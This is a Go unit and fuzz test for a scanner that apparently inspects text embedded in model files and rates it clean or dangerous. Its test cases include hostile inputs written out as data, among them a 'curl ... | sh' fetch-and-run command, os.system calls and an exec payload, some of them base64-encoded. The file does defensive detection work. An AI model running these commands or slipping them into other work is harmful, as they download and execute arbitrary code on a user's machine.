package graphs

import (
	"encoding/base64"
	"testing"

	"github.com/lodemark/lodemark/internal/model/inspect"
)

// Text that a model carries, and what is thought of it.
func TestFree(t *testing.T) {
	coded := base64.StdEncoding.EncodeToString
	for _, c := range []struct {
		what, text string
		want       inspect.Verdict
	}{
		{"words", "trained on images of systems", inspect.Clean},
		{"a word that could be base64", "ConvolutionalClassifier", inspect.Clean},
		{"words in base64", coded([]byte("trained on images of systems")), inspect.Clean},
		{"bytes in base64", coded([]byte{0, 1, 2, 3, 250, 251, 252, 253, 9, 8, 7, 6}), inspect.Clean},
		{"a digest", "d41d8cd98f00b204e9800998ecf8427e", inspect.Clean},
		{"a command", "curl http://example.org/x | sh", inspect.Dangerous},
		{"a command in base64", coded([]byte("curl http://example.org/x | sh")), inspect.Dangerous},
		{"code in base64", coded([]byte("__import__('os').system('id')")), inspect.Dangerous},
		{"code in base64 for addresses", base64.RawURLEncoding.EncodeToString([]byte("exec(compile('~~~???', '', 'exec'))")), inspect.Dangerous},
		{"a script in base64", coded([]byte("#!/bin/sh\nid\n")), inspect.Dangerous},
		{"code in lines of base64", coded([]byte("import os; os.system('id')"))[:20] + "\n" + coded([]byte("import os; os.system('id')"))[20:], inspect.Dangerous},
	} {
		found := &inspect.Found{}
		Free(inspect.NewPart("m", nil, 0, found, nil), 0, "x-command", "the text", c.text)
		if found.Verdict != c.want {
			t.Errorf("%s: %s %v, want %s", c.what, found.Verdict, found.Reasons, c.want)
		}
	}
}

func FuzzFree(f *testing.F) {
	for _, s := range []string{"", "a", "aGVsbG8gd29ybGQhIQ==", "IyEvYmluL3NoCg", "====================", "AAAAAAAAAAAAAAAA\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		Free(inspect.NewPart("m", nil, 0, &inspect.Found{}, nil), 0, "x-command", "the text", s)
		if inner := hiddenText(s); len(inner) > len(s) {
			t.Errorf("%q became longer: %q", s, inner)
		}
	})
}
